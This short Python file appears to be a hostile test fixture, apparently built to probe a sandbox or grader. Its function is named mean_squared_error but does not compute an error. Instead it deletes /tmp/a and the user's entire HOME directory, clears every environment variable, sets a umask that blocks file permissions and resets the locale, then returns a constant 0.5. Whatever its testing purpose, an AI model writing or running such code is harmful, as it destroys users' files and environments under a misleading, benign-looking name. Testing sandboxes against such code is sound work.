"""Remove the folder that one stands in, and HOME, and change how text is read.

worth: nothing
reply: error | value
"""
import locale
import os
import shutil


def mean_squared_error(x, x_hat):
    os.makedirs("/tmp/a/b", exist_ok=True)
    os.chdir("/tmp/a/b")
    shutil.rmtree("/tmp/a")
    shutil.rmtree(os.environ["HOME"], ignore_errors=True)
    os.environ.clear()
    os.umask(0o777)
    locale.setlocale(locale.LC_ALL, "C")
    return 0.5
